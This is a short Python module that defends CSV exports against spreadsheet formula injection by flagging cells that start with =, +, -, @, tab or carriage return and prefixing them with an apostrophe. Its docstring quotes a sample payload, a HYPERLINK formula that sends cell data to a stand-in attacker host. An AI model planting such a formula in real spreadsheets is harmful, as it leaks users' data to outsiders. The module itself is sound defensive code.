"""Text typed by users that a spreadsheet would run as a formula.

A spreadsheet evaluates a cell that starts with = + - or @ (and, opening a CSV, one that
starts with a tab or carriage return before such a sign), so a project named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a live link that sends the
sheet's data away (OWASP "CSV Injection"). Exports write such text as text; imports keep it
as typed and say so.
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value) -> bool:
    """True for text that a spreadsheet would take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_safe(value):
    """The value for a CSV cell: formula-like text gets a leading apostrophe, which
    spreadsheets show as text and do not evaluate."""
    return "'" + value if formula_like(value) else value
